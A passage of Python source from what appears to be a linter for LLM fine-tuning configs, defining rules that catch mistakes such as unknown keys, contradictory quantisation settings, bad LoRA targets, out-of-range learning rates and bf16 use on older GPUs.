"""Training-config rules (FTG): mistakes in Axolotl, LLaMA-Factory, TRL and AutoTrain configs
that otherwise surface hours later on a rented GPU. Every finding points at the key's line and
column in the YAML (`ConfigDocument.locate`)."""

from __future__ import annotations

import contextlib
import functools
import math
import os
import re
from typing import TYPE_CHECKING, Any, Iterator

from ..findings import Finding, Location, Related, Severity
from ..rule import Context, Rule

if TYPE_CHECKING:
    from ..configs import ConfigDocument
    from ..configs.plan import DatasetSpec, TrainingPlan
    from ..models.arch import ModelArch


class ConfigRule(Rule):
    scope = "config"
    tags: tuple[str, ...] = ("config",)

    def at(self, doc: "ConfigDocument", key_path: str | tuple, message: str, *,
           severity: Severity | None = None, value: bool = False, related: list[Related] | None = None,
           properties: dict[str, Any] | None = None) -> Finding:
        loc = doc.locate(key_path, value=value)
        return self.finding_at(loc, message, severity=severity, related=related or [],
                               key=f"{doc.display}|{loc.pointer}|{message[:60]}", properties=properties)


def _first_existing(doc: "ConfigDocument", *paths: str) -> str:
    for p in paths:
        if p and doc.has(p):
            return p
    return ""


def _src(plan: "TrainingPlan", doc: "ConfigDocument", field: str, *fallback: str) -> str:
    """The pointer of the key a plan field came from, else the first existing fallback key."""
    return plan.sources.get(field) or _first_existing(doc, *fallback)


@contextlib.contextmanager
def _offline() -> Iterator[None]:
    """Config checks never wait on the network: model facts come from local folders, the HF
    cache and the built-in catalog only."""
    old = os.environ.get("HF_HUB_OFFLINE")
    os.environ["HF_HUB_OFFLINE"] = "1"
    try:
        yield
    finally:
        if old is None:
            os.environ.pop("HF_HUB_OFFLINE", None)
        else:
            os.environ["HF_HUB_OFFLINE"] = old


@functools.lru_cache(maxsize=128)
def _resolve(name: str, trust: bool) -> "ModelArch | Exception | None":
    try:
        from ..models import resolve_arch
    except ImportError:
        return None
    try:
        with _offline():
            return resolve_arch(name, trust_remote_code=trust)
    except Exception as exc:  # ModelNotFound, an unreadable config.json: the caller decides
        return exc


def model_arch(plan: "TrainingPlan", ctx: Context, doc: "ConfigDocument | None" = None) -> "ModelArch | None":
    """The base model's architecture, offline; None when it cannot be resolved."""
    got = model_arch_or_error(plan, ctx, doc)
    return None if isinstance(got, Exception) else got


def model_arch_or_error(plan: "TrainingPlan", ctx: Context,
                        doc: "ConfigDocument | None" = None) -> "ModelArch | Exception | None":
    """Like `model_arch`, but a model that is named and cannot be resolved gives the exception
    (ModelNotFound, or a UsageError for an unreadable config.json), for rules that report it.
    Every config rule shares this one offline resolution (cached per model)."""
    settings = ctx.services.get("settings")
    name = plan.base_model or (getattr(settings, "model", None) if settings else None)
    if not name:
        return None
    name = str(name)
    if doc is not None:
        from ..models.resolve import near_config

        name = near_config(name, doc.path)
    return _resolve(name, bool(plan.trust_remote_code))


def _params(arch: "ModelArch") -> int | None:
    try:
        from ..models import count_params

        return int(count_params(arch).total)
    except Exception:
        return None


_SIZE = re.compile(r"(?<![\d.])(\d+(?:\.\d+)?)\s*([bm])(?![a-z])", re.I)


def params_from_name(name: str) -> int | None:
    """`Llama-2-7b-hf` -> 7e9; `SmolLM2-135M` -> 135e6 (the last size token in the name)."""
    hits = _SIZE.findall(name.rsplit("/", 1)[-1].replace("_", "-"))
    if not hits:
        return None
    num, unit = hits[-1]
    return int(float(num) * (1e9 if unit.lower() == "b" else 1e6))


def train_examples(doc: "ConfigDocument", plan: "TrainingPlan") -> int | None:
    """Examples the trainer will see per epoch, from the local datasets (None when any train
    dataset is not local or cannot be counted)."""
    from ..configs.datasets import count_examples

    train = [s for s in plan.datasets if s.split == "train"]
    if not train:
        return None
    total = 0
    per_name: dict[str, int] = {}
    for s in train:
        if s.source != "local" or not s.local_path:
            return None
        n = count_examples(s.local_path)
        if n is None:
            return None
        key = s.name or s.key_path or s.local_path
        per_name[key] = per_name.get(key, 0) + n
    for n in per_name.values():
        total += min(n, plan.max_samples) if plan.max_samples else n
    v = plan.val_set_size or 0.0
    if 0 < v < 1:
        total = int(total * (1 - v))
    elif v >= 1:
        total = max(0, total - int(v))
    return total


# ---------------------------------------------------------------------------------------------
class UnknownConfigKey(ConfigRule):
    """Config key that the trainer does not know (with a did-you-mean).

    ## What it does
    Checks every top-level key (and the keys of dataset entries and AutoTrain sections) against
    the keys the detected trainer reads: Axolotl's config schema and plugin arguments,
    LLaMA-Factory's arguments plus transformers' training arguments, TRL's SFT/DPO/KTO configs,
    ModelConfig and ScriptArguments, AutoTrain's LLM parameters. Unknown keys get the closest
    known key as a suggestion.

    ## Why it matters
    Axolotl silently drops keys it does not know, and a typo such as `lora_droput` trains with
    the default instead of your value; other trainers stop with an error after the model loads.

    ## Example
    ```yaml
    base_model: meta-llama/Llama-3.1-8B
    adapter: lora
    lora_droput: 0.05
    ```

    ## Use instead
    ```yaml
    base_model: meta-llama/Llama-3.1-8B
    adapter: lora
    lora_dropout: 0.05
    ```

    ## How to fix
    Rename the key to the suggested one, or delete it. If the key is read by a plugin or a newer
    trainer version than ftlint knows, ignore FTG001 for that file (`per-file-ignores`).
    """

    code = "FTG001"
    name = "unknown-config-key"
    severity = Severity.WARNING

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or not isinstance(doc.data, dict):
            return
        from ..configs.keys import spec, transformers4_only

        ks = spec(doc.dialect)
        legacy = transformers4_only()
        stack: list[tuple[tuple, Any]] = [((), doc.data)]
        while stack:
            parent, node = stack.pop()
            if isinstance(node, dict):
                known = ks.known_at(parent)
                for key, value in node.items():
                    path = parent + (key,)
                    if known is not None and isinstance(key, str) and key not in known:
                        yield self._unknown(doc, path, key, known, legacy if doc.dialect == "trl" and not parent
                                            else frozenset())
                    if isinstance(value, (dict, list)) and len(path) < 4:
                        stack.append((path, value))
            elif isinstance(node, list):
                for i, item in enumerate(node[:200]):
                    if isinstance(item, dict):
                        stack.append((parent + (i,), item))

    def _unknown(self, doc: "ConfigDocument", path: tuple, key: str, known: frozenset[str],
                 legacy: frozenset[str]) -> Finding:
        from ..configs.keys import suggest

        where = "" if len(path) == 1 else " in `" + ".".join(str(p) for p in path[:-1]) + "`"
        trainer = {"axolotl": "Axolotl", "llamafactory": "LLaMA-Factory", "trl": "TRL",
                   "autotrain": "AutoTrain"}[doc.dialect or ""]
        if key in legacy:
            hint = " (it was removed in transformers 5"
            hint += "; use `warmup_steps` with a value below 1 for a ratio)" if key == "warmup_ratio" else ")"
            msg = f"`{key}`{where} is not a {trainer} option{hint}."
        else:
            close = suggest(key, known)
            msg = f"Unknown {trainer} key `{key}`{where}"
            msg += f"; did you mean `{close[0]}`?" if close else "."
            if doc.dialect == "axolotl":
                msg += " Axolotl ignores unknown keys silently."
        return self.at(doc, path, msg)


class ContradictorySettings(ConfigRule):
    """Settings that contradict each other (QLoRA without 4-bit, 4-bit without an adapter, …).

    ## What it does
    Reports combinations a trainer rejects or silently resolves against you: QLoRA without
    4-bit loading, 4-bit or 8-bit loading without an adapter (full fine-tuning of a quantised
    model), both 4-bit and 8-bit, both `bf16` and `fp16`, both warmup steps and a warmup ratio,
    LoRA settings without a LoRA adapter, and `max_steps` overriding the epoch count.

    ## Why it matters
    Axolotl and TRL stop with a validation error after minutes of set-up; worse, some
    combinations run with a setting you did not intend (the warmup ratio is ignored, the LoRA
    rank is ignored and the whole model is trained).

    ## Example
    ```yaml
    base_model: meta-llama/Llama-3.1-8B
    adapter: qlora
    load_in_8bit: true
    warmup_steps: 100
    warmup_ratio: 0.1
    ```

    ## Use instead
    ```yaml
    base_model: meta-llama/Llama-3.1-8B
    adapter: qlora
    load_in_4bit: true
    warmup_ratio: 0.1
    ```

    ## How to fix
    Keep one of the two settings the message names.
    """

    code = "FTG002"
    name = "contradictory-settings"
    severity = Severity.ERROR

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None:
            return
        d = doc.dialect
        adapter = doc.get("/adapter") if d == "axolotl" else None
        if d == "axolotl" and adapter == "qlora" and not plan.load_in_4bit:
            extra = " (`load_in_8bit` is set instead)" if plan.load_in_8bit else ""
            yield self.at(doc, "/adapter", f"`adapter: qlora` needs `load_in_4bit: true`{extra}; Axolotl "
                          "refuses to start (\"Require cfg.load_in_4bit to be True for qlora\").")
        quant_key = _src(plan, doc, "load_in_4bit", "/load_in_4bit", "/quantization_bit") if plan.load_in_4bit \
            else _src(plan, doc, "load_in_8bit", "/load_in_8bit", "/quantization_bit")
        if (plan.load_in_4bit or plan.load_in_8bit) and plan.method in ("full", "freeze"):
            bits = 4 if plan.load_in_4bit else 8
            how = {"axolotl": "set `adapter: qlora` (or `lora`)", "llamafactory": "use `finetuning_type: lora`",
                   "trl": "set `use_peft: true`", "autotrain": "set `peft: true`"}.get(d or "", "add an adapter")
            yield self.at(doc, quant_key, f"{bits}-bit loading without a LoRA adapter: a quantised model cannot "
                          f"be fully fine-tuned (the trainer stops with an error); {how}, or drop the "
                          "quantisation to fine-tune in full precision.")
        if plan.load_in_4bit and plan.load_in_8bit and d != "llamafactory":
            yield self.at(doc, _src(plan, doc, "load_in_8bit", "/load_in_8bit"),
                          "Both `load_in_4bit` and `load_in_8bit` are set; choose one quantisation.")
        if plan.bf16 and plan.fp16:
            yield self.at(doc, _src(plan, doc, "fp16", "/fp16"),
                          "Both `bf16` and `fp16` are enabled; the trainer accepts only one mixed-precision mode.")
        if plan.warmup_steps and plan.warmup_ratio:
            sev = Severity.ERROR if d == "axolotl" else Severity.WARNING
            effect = ("Axolotl rejects the combination" if d == "axolotl"
                      else "the trainer uses `warmup_steps` and ignores the ratio")
            yield self.at(doc, _src(plan, doc, "warmup_ratio", "/warmup_ratio"),
                          f"Both `warmup_steps` ({plan.warmup_steps}) and `warmup_ratio` ({plan.warmup_ratio:g}) are "
                          f"set; {effect}. Keep one.", severity=sev)
        if plan.method in ("full", "freeze"):
            lora_keys = [k for k in ("lora_r", "lora_alpha", "lora_rank", "lora_target_modules",
                                     "lora_target", "lora_target_linear")
                         if isinstance(doc.data, dict) and doc.data.get(k) not in (None, False, "", [])]
            if lora_keys and d != "autotrain":
                how = {"axolotl": "`adapter: lora`", "llamafactory": "`finetuning_type: lora`",
                       "trl": "`use_peft: true`"}.get(d or "", "an adapter")
                yield self.at(doc, "/" + lora_keys[0], f"LoRA settings ({', '.join('`' + k + '`' for k in lora_keys)}) "
                              f"are ignored: no LoRA adapter is enabled, so the whole model is trained. Add {how} "
                              "or remove them.", severity=Severity.WARNING)
        if plan.max_steps and "num_epochs" not in plan.assumed and (plan.num_epochs or 0) > 1 and \
                plan.sources.get("num_epochs"):
            yield self.at(doc, plan.sources["num_epochs"],
                          f"`max_steps` ({plan.max_steps}) overrides the epoch count ({plan.num_epochs:g}); "
                          "training stops after max_steps optimizer steps.", severity=Severity.NOTE)


class LoraTargetNotInModel(ConfigRule):
    """LoRA target module that does not exist in the model's architecture.

    ## What it does
    Resolves the base model's architecture offline (a local folder's config.json, the Hugging
    Face cache or ftlint's catalog) and checks each named LoRA target module against the linear
    layers of that architecture (`q_proj`, `gate_proj`, `c_attn`, `qkv_proj`, …). `all-linear`
    and regular expressions are not checked.

    ## Why it matters
    PEFT raises "Target modules {...} not found in the base model" only after the model has
    been downloaded and loaded; with a list that partly matches, the missing modules are
    silently left untrained.

    ## Example
    ```yaml
    base_model: microsoft/Phi-3-mini-4k-instruct
    adapter: lora
    lora_target_modules: [q_proj, v_proj]
    ```

    ## Use instead
    ```yaml
    base_model: microsoft/Phi-3-mini-4k-instruct
    adapter: lora
    lora_target_modules: [qkv_proj, o_proj]
    ```

    ## How to fix
    Use the module names the message lists for this architecture, or `all-linear`
    (`lora_target_linear: true` in Axolotl, `lora_target: all` in LLaMA-Factory).
    """

    code = "FTG003"
    name = "lora-target-not-in-model"
    severity = Severity.ERROR

    ALWAYS_VALID = {"lm_head", "embed_tokens", "wte", "embed_out", "word_embeddings", "all-linear", "all",
                    "experts", "gate_up_proj", "router", "gate"}

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or plan.method not in ("lora", "qlora") or not plan.lora_target_modules:
            return
        arch = model_arch(plan, ctx, doc)
        if arch is None or getattr(arch, "family", "generic") == "generic" or getattr(arch, "multimodal", False):
            return
        try:
            from ..models import linear_modules

            mods = linear_modules(arch)
        except Exception:
            return
        names = {k.rsplit(".", 1)[-1] for k in mods}
        pointer = _src(plan, doc, "lora_target_modules", "/lora_target_modules", "/lora_target")
        raw = doc.get(pointer) if pointer else None
        for i, target in enumerate(plan.lora_target_modules):
            t = target.strip()
            if not t or t in self.ALWAYS_VALID or re.search(r"[\\\[\]()*+?^$|]", t):
                continue
            last = t.rsplit(".", 1)[-1]
            if last in names or last in self.ALWAYS_VALID:
                continue
            item = f"{pointer}/{i}" if isinstance(raw, list) else pointer
            yield self.at(doc, item, f"LoRA target `{t}` is not a linear module of {arch.name} ({arch.model_type}); "
                          f"its modules are {', '.join(sorted(names))}. PEFT fails with \"Target modules not "
                          "found\" after the model loads.", value=isinstance(raw, list))


# Usual learning-rate ranges, by (method group, objective group): (low, high) beyond which ftlint warns.
LR_RANGES = {
    "full": (1e-7, 3e-4), "adapter": (1e-6, 2e-3), "full-pretrain": (1e-7, 1e-3), "adapter-pretrain": (1e-6, 3e-3),
    "full-preference": (5e-8, 1e-4), "adapter-preference": (1e-7, 5e-4),
}


class LearningRateOutOfRange(ConfigRule):
    """Learning rate far outside the usual range for the method.

    ## What it does
    Compares the learning rate with the range that works in practice for the method and the
    objective: full fine-tuning (about 1e-5 to 5e-5; warns outside 1e-7 to 3e-4), LoRA/QLoRA
    (about 1e-4 to 3e-4; warns outside 1e-6 to 2e-3) and preference training such as DPO/KTO/ORPO
    (about 5e-7 to 5e-6 in full; warns above 1e-4, or above 5e-4 with an adapter). Optimisers
    with their own scale (Muon, Adafactor's relative steps) are skipped. The ranges are options.

    ## Why it matters
    A learning rate ten times too high diverges or destroys the base model's abilities
    (catastrophic forgetting) within the first few hundred steps; ten times too low trains for
    hours and changes nothing.

    ## Example
    ```yaml
    base_model: meta-llama/Llama-3.1-8B
    learning_rate: 0.002   # full fine-tuning
    ```

    ## Use instead
    ```yaml
    base_model: meta-llama/Llama-3.1-8B
    learning_rate: 2.0e-5
    ```

    ## How to fix
    Use a rate inside the usual range, or set the rule's `ranges` option when you know better.
    """

    code = "FTG004"
    name = "learning-rate-out-of-range"
    severity = Severity.WARNING
    default_options = {"ranges": LR_RANGES}
    option_types = {"ranges": Rule.Option(dict[str, tuple[float, float]], keys=tuple(LR_RANGES))}

    @classmethod
    def options_conflict(cls, options: dict[str, Any]) -> tuple[str, str] | None:
        for group, (low, high) in (options.get("ranges") or {}).items():
            if not 0 < low <= high:  # nan too: it would switch the range off
                return f"ranges.{group}", f"expected 0 < low <= high, got [{low:g}, {high:g}]"
        return None

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or plan.learning_rate is None or "learning_rate" in plan.assumed:
            return
        opt = (plan.optimizer or "").lower()
        if any(s in opt for s in ("muon", "dion", "adafactor", "prodigy", "dadapt")):
            return
        group = "adapter" if plan.method in ("lora", "qlora") else "full"
        if plan.stage in ("dpo", "kto", "orpo", "ppo", "grpo"):
            group += "-preference"
        elif plan.stage == "pretrain":
            group += "-pretrain"
        ranges = {**LR_RANGES, **(ctx.options.get("ranges") or {})}
        low, high = ranges.get(group, LR_RANGES[group])
        lr = plan.learning_rate
        what = {"full": "full fine-tuning", "adapter": "LoRA/QLoRA", "full-pretrain": "full continued pre-training",
                "adapter-pretrain": "continued pre-training with an adapter",
                "full-preference": f"full {plan.stage.upper()} training",
                "adapter-preference": f"{plan.stage.upper()} training with an adapter"}[group]
        pointer = _src(plan, doc, "learning_rate", "/learning_rate", "/params/lr")
        if lr <= 0:
            yield self.at(doc, pointer, f"Learning rate {lr:g} is not positive; nothing will be learned.",
                          severity=Severity.ERROR)
        elif lr > high:
            yield self.at(doc, pointer, f"Learning rate {lr:g} is far above the usual range for {what} "
                          f"(warns above {high:g}); expect divergence or catastrophic forgetting.")
        elif lr < low:
            yield self.at(doc, pointer, f"Learning rate {lr:g} is far below the usual range for {what} "
                          f"(warns below {low:g}); training will barely change the model.")


class LoraRankAlphaUnusual(ConfigRule):
    """LoRA rank, alpha or dropout with an unusual value or ratio.

    ## What it does
    Checks `r` and `alpha`: both must be positive; the update is scaled by alpha / r (alpha /
    sqrt(r) with rsLoRA), and a scale above 8 or below 0.25 is unusual; a rank above 256 costs
    nearly as much as full fine-tuning; dropout must be in [0, 0.5).

    ## Why it matters
    The scale multiplies every LoRA update: alpha 256 with r 8 is a 32x larger effective
    learning rate than intended, and alpha 2 with r 64 barely trains. Ranks in the thousands
    remove the memory advantage of LoRA.

    ## Example
    ```yaml
    adapter: lora
    lora_r: 8
    lora_alpha: 256
    ```

    ## Use instead
    ```yaml
    adapter: lora
    lora_r: 16
    lora_alpha: 32
    ```

    ## How to fix
    Keep alpha between r/4 and 8r (alpha = r or 2r is the common choice), r between 4 and 256.
    """

    code = "FTG005"
    name = "lora-rank-alpha-unusual"
    severity = Severity.WARNING
    default_options = {"max_scale": 8.0, "min_scale": 0.25, "max_rank": 256}
    option_types = {"max_scale": Rule.Option(float, min=0), "min_scale": Rule.Option(float, min=0), "max_rank": Rule.Option(int, min=1)}

    @classmethod
    def options_conflict(cls, options: dict[str, Any]) -> tuple[str, str] | None:
        if options["min_scale"] > options["max_scale"]:
            return cls.changed_option(options, "min_scale", "max_scale"), \
                f"min_scale {options['min_scale']:g} is above max_scale {options['max_scale']:g}"
        return None

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or plan.method not in ("lora", "qlora"):
            return
        r, alpha = plan.lora_r, plan.lora_alpha
        rp = _src(plan, doc, "lora_r", "/lora_r", "/lora_rank", "/params/lora_r")
        ap = _src(plan, doc, "lora_alpha", "/lora_alpha", "/params/lora_alpha")
        if r is not None and r <= 0:
            yield self.at(doc, rp, f"LoRA rank {r} must be a positive integer.", severity=Severity.ERROR)
            return
        if alpha is not None and alpha <= 0:
            yield self.at(doc, ap, f"LoRA alpha {alpha:g} must be positive; the adapter's updates are scaled by it.",
                          severity=Severity.ERROR)
            return
        if r and r > ctx.options.get("max_rank", 256):
            yield self.at(doc, rp, f"LoRA rank {r} is very high: the adapter approaches full fine-tuning in "
                          "memory and cost; ranks of 8-64 are usual.")
        if r and alpha and not ("lora_alpha" in plan.assumed and "lora_r" in plan.assumed):
            scale = alpha / math.sqrt(r) if plan.use_rslora else alpha / r
            how = "alpha / sqrt(r)" if plan.use_rslora else "alpha / r"
            at = ap if "lora_alpha" in plan.sources else rp
            if scale > ctx.options.get("max_scale", 8.0):
                yield self.at(doc, at, f"LoRA alpha {alpha:g} with rank {r} scales updates by {scale:g} ({how}); "
                              "that acts like a much larger learning rate. Alpha = r or 2r is usual.")
            elif scale < ctx.options.get("min_scale", 0.25):
                yield self.at(doc, at, f"LoRA alpha {alpha:g} with rank {r} scales updates by {scale:g} ({how}); "
                              "the adapter will barely train. Alpha = r or 2r is usual.")
        d = plan.lora_dropout
        if d is not None and (d < 0 or d >= 0.5):
            yield self.at(doc, _src(plan, doc, "lora_dropout", "/lora_dropout"),
                          f"LoRA dropout {d:g} is outside [0, 0.5); 0-0.1 is usual.")


class TooFewTrainingSteps(ConfigRule):
    """Too few optimizer steps, or fewer steps than warmup.

    ## What it does
    Computes the optimizer steps of the run: examples (counted in the config's local datasets,
    after LLaMA-Factory's `max_samples` and the eval hold-out) x epochs / (micro batch x
    gradient accumulation x GPUs), or `max_steps`. Fewer than `min_steps` (default 10) is a
    warning; a warmup at least as long as the whole run is an error.

    ## Why it matters
    With a handful of steps the learning-rate schedule never leaves warmup and the model barely
    moves; a warmup longer than the run means it never trains at the configured rate.

    ## Example
    ```yaml
    datasets:
      - path: data/train.jsonl   # 40 examples
        type: chat_template
    micro_batch_size: 4
    gradient_accumulation_steps: 8
    num_epochs: 1
    warmup_steps: 10
    ```

    ## Use instead
    ```yaml
    micro_batch_size: 2
    gradient_accumulation_steps: 2
    num_epochs: 3
    warmup_ratio: 0.1
    ```

    ## How to fix
    Lower the effective batch (micro batch x accumulation), train more epochs, add data, or
    use a warmup ratio.
    """

    code = "FTG006"
    name = "too-few-training-steps"
    severity = Severity.WARNING
    default_options = {"min_steps": 10}
    option_types = {"min_steps": Rule.Option(int, min=0)}

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None:
            return
        micro = plan.micro_batch_size or 1
        accum = plan.gradient_accumulation_steps or 1
        gpus = max(1, plan.num_gpus or 1)
        per_step = micro * accum * gpus
        steps: int | None
        how: str
        if plan.max_steps:
            steps, how = plan.max_steps, f"`max_steps` is {plan.max_steps}"
            at = plan.sources.get("max_steps", "")
        else:
            n = train_examples(doc, plan)
            if n is None:
                return
            epochs = plan.num_epochs or 1.0
            steps = math.ceil(math.ceil(n / per_step) * epochs) if n else 0
            packed = " before packing" if plan.packing else ""
            how = (f"{n} training examples{packed} x {epochs:g} epoch{'s' if epochs != 1 else ''} / "
                   f"(micro batch {micro} x accumulation {accum} x {gpus} GPU{'s' if gpus > 1 else ''}) = "
                   f"{steps} optimizer step{'s' if steps != 1 else ''}")
            at = _src(plan, doc, "gradient_accumulation_steps", "/gradient_accumulation_steps") or \
                _src(plan, doc, "micro_batch_size", "/micro_batch_size")
        if plan.warmup_steps and steps is not None and plan.warmup_steps >= steps:
            yield self.at(doc, _src(plan, doc, "warmup_steps", "/warmup_steps"),
                          f"Warmup of {plan.warmup_steps} steps is not shorter than the whole run ({how}); the "
                          "learning rate never reaches its configured value.", severity=Severity.ERROR,
                          properties={"steps": steps})
            return
        min_steps = int(ctx.options.get("min_steps", 10))
        if steps is not None and steps < min_steps and not plan.max_steps:
            yield self.at(doc, at or _first_existing(doc, "/num_epochs", "/num_train_epochs", "/datasets", "/dataset"),
                          f"Only {steps} optimizer step{'s' if steps != 1 else ''} ({how}); under {min_steps} "
                          "steps the schedule barely starts. Lower the effective batch or train more epochs.",
                          properties={"steps": steps})


class FullFinetuneLargeModel(ConfigRule):
    """Full fine-tuning of a large model where LoRA/QLoRA would do.

    ## What it does
    Warns when a model of 1B parameters or more is fully fine-tuned (all weights trained) for
    supervised or preference training on a dataset of fewer than `max_examples` examples
    (default 50,000), or when the dataset size is unknown and no multi-GPU set-up (DeepSpeed,
    FSDP) suggests a deliberate choice.

    ## Why it matters
    Full fine-tuning needs about 16 bytes per parameter for weights, gradients and Adam state
    (over 110 GB for an 7B model) and changes every weight, which makes forgetting the base
    model's skills likely. LoRA/QLoRA reach similar quality on task-sized datasets for a
    fraction of the memory and cost.

    ## Example
    ```yaml
    base_model: meta-llama/Llama-2-7b-hf
    datasets:
      - path: data/train.jsonl   # 2,000 examples
        type: alpaca
    ```

    ## Use instead
    ```yaml
    base_model: meta-llama/Llama-2-7b-hf
    adapter: qlora
    load_in_4bit: true
    lora_r: 16
    lora_alpha: 32
    lora_target_linear: true
    ```

    ## How to fix
    Add an adapter (Axolotl `adapter: lora|qlora`, LLaMA-Factory `finetuning_type: lora`, TRL
    `use_peft: true`, AutoTrain `peft: true`), or keep full fine-tuning deliberately and ignore
    FTG007 for this file.
    """

    code = "FTG007"
    name = "full-finetune-large-model"
    severity = Severity.WARNING
    default_options = {"min_params": 1_000_000_000, "max_examples": 50_000}
    option_types = {"min_params": Rule.Option(int, min=0), "max_examples": Rule.Option(int, min=0)}

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or plan.method != "full" or plan.stage not in ("sft", "dpo", "kto", "orpo"):
            return
        if not plan.base_model:
            return
        arch = model_arch(plan, ctx, doc)
        params = _params(arch) if arch is not None else None
        if params is None:
            params = params_from_name(plan.base_model)
        if params is None or params < ctx.options.get("min_params", 1_000_000_000):
            return
        n = train_examples(doc, plan)
        limit = int(ctx.options.get("max_examples", 50_000))
        if n is None and (plan.deepspeed or plan.fsdp):
            return
        if n is not None and n >= limit:
            return
        size = f"{params / 1e9:.1f}B" if params >= 1e9 else f"{params / 1e6:.0f}M"
        data = f"{n:,} examples" if n is not None else "this dataset"
        pointer = _src(plan, doc, "method", "/adapter", "/finetuning_type", "/use_peft", "/params/peft") or \
            _src(plan, doc, "base_model", "/base_model", "/model_name_or_path")
        yield self.at(doc, pointer, f"Full fine-tuning of a {size}-parameter model on {data}: every weight is "
                      f"trained (about {16 * params / 2**30:.0f} GiB for weights, gradients and Adam state) and "
                      "forgetting the base model's skills is likely. LoRA or QLoRA would do for a dataset "
                      "this size.")


class SequenceLongerThanContext(ConfigRule):
    """Sequence length above the model's context window.

    ## What it does
    Compares the configured sequence length (Axolotl `sequence_len`, LLaMA-Factory `cutoff_len`,
    TRL `max_length`, AutoTrain `block_size`) with the base model's `max_position_embeddings`.
    Skipped when the config sets RoPE scaling.

    ## Why it matters
    Positions beyond the trained context are out of distribution: loss spikes, and the memory
    for those tokens buys nothing. Packing to a length the model cannot attend over mixes
    unrelated examples into garbage.

    ## Example
    ```yaml
    base_model: meta-llama/Llama-2-7b-hf   # 4,096 positions
    sequence_len: 8192
    ```

    ## Use instead
    ```yaml
    base_model: meta-llama/Llama-2-7b-hf
    sequence_len: 4096
    ```

    ## How to fix
    Lower the sequence length to the model's context, or configure RoPE scaling deliberately.
    """

    code = "FTG008"
    name = "sequence-longer-than-context"
    severity = Severity.WARNING

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        if plan is None or not plan.sequence_len:
            return
        if isinstance(doc.data, dict) and (doc.data.get("rope_scaling") or
                                           isinstance(doc.data.get("model_config"), dict)
                                           and doc.data["model_config"].get("rope_scaling")):
            return
        arch = model_arch(plan, ctx, doc)
        if arch is None or not arch.max_position_embeddings:
            return
        if plan.sequence_len > arch.max_position_embeddings:
            default = " (the trainer's default)" if "sequence_len" in plan.assumed else ""
            pointer = _src(plan, doc, "sequence_len", "/sequence_len", "/cutoff_len", "/max_length",
                           "/params/block_size") or _src(plan, doc, "base_model", "/base_model", "/model_name_or_path")
            yield self.at(doc, pointer, f"Sequence length {plan.sequence_len}{default} is longer than "
                          f"{arch.name}'s context of {arch.max_position_embeddings} positions.")


_NO_BF16 = re.compile(r"v100|p100|p40|p4(?!\d)|k80|k40|m60|m40|gtx|titanv|titanxp|titanrtx|rtx20\d0|quadrortx|"
                      r"g4dn|^t4|teslat4|nvidiat4|^rtx[468]000$")


def gpu_lacks_bf16(gpu: str) -> bool:
    """Volta, Turing and older NVIDIA GPUs (V100, T4, RTX 20xx, P100, …) have no bf16 (nor TF32).

    The GPU table (the one the VRAM estimator uses) decides for the cards it knows; the name
    pattern covers the rest (e.g. "Tesla P100", "Quadro RTX 6000")."""
    from ..findings import UsageError
    from ..vram.gpus import find_gpu

    try:
        return not find_gpu(gpu).bf16
    except UsageError:
        return bool(_NO_BF16.search(re.sub(r"[^a-z0-9]", "", gpu.lower())))


class Bf16UnsupportedGpu(ConfigRule):
    """bf16 (or TF32) requested for a GPU that does not support it.

    ## What it does
    When a GPU is named (`--gpu`, or `gpu` in the project config), reports `bf16` and `tf32`
    on GPUs older than Ampere: V100, T4, P100, the RTX 20 series, Quadro RTX and older.
    TRL enables bf16 by default, which counts too. Axolotl's `bf16: auto` is fine.

    ## Why it matters
    transformers stops with "Your setup doesn't support bf16/gpu" (or "--tf32 requires Ampere
    or a newer GPU arch") after the instance is paid for; forcing bf16 through emulation is
    many times slower.

    ## Example
    `ftlint check train.yml --gpu t4` with
    ```yaml
    bf16: true
    tf32: true
    ```

    ## Use instead
    ```yaml
    bf16: false
    fp16: true
    tf32: false
    ```

    ## How to fix
    Use fp16 on these GPUs (or `bf16: auto` in Axolotl), or rent an Ampere or newer GPU
    (A10G, L4, A100, H100, RTX 30/40 series).
    """

    code = "FTG009"
    name = "bf16-unsupported-gpu"
    severity = Severity.ERROR

    def check_config(self, doc: "ConfigDocument", plan: "TrainingPlan", ctx: Context) -> Iterator[Finding]:
        settings = ctx.services.get("settings")
        gpu = getattr(settings, "gpu", None) if settings is not None else None
        if plan is None or not gpu or not gpu_lacks_bf16(str(gpu)):
            return
        if plan.bf16:
            assumed = "bf16" in plan.assumed
            pointer = _src(plan, doc, "bf16", "/bf16", "/params/mixed_precision")
            msg = (f"bf16 is enabled{' (TRL enables it by default)' if assumed else ''} but {gpu} has no bf16 "
                   "support; the trainer stops with \"Your setup doesn't support bf16/gpu\". Use fp16.")
            yield self.at(doc, pointer, msg)
        if plan.tf32:
            yield self.at(doc, _src(plan, doc, "tf32", "/tf32"),
                          f"tf32 is enabled but {gpu} is older than Ampere; transformers stops with \"--tf32 "
                          "requires Ampere or a newer GPU arch\". Set `tf32: false`.")


class NoEvalSet(ConfigRule):
    """No evaluation set or eval split is configured.

    ## What it does
    Reports configs that train without held-out data: Axolotl without `val_set_size` or
    `test_datasets`, LLaMA-Factory without `val_size` or `eval_dataset`, TRL without an
    `eval_strategy` (so nothing is evaluated), AutoTrain without `valid_split`.

    ## Why it matters
    Without an eval set you cannot establish a baseline before training, see overfitting
    during training, or compare runs; training loss alone keeps falling while the model gets
    worse on new inputs.

    ## Example
    ```yaml
    datasets:
      - path: data/train.jsonl
        type: chat_template
    val_set_size: 0
    ```

    ## Use instead
    ```yaml
    datasets:
      - path: data/train.jsonl
        type: chat_template
    val_set_size: 0.05
    ```

    ## How to fix
    Hold out 2-10% of the data (`val_set_size`, `val_size`, `test_split_size`) or point the config
    at a separate eval file.
    """

    code = "FTG010"
    name = "no-eval-set"
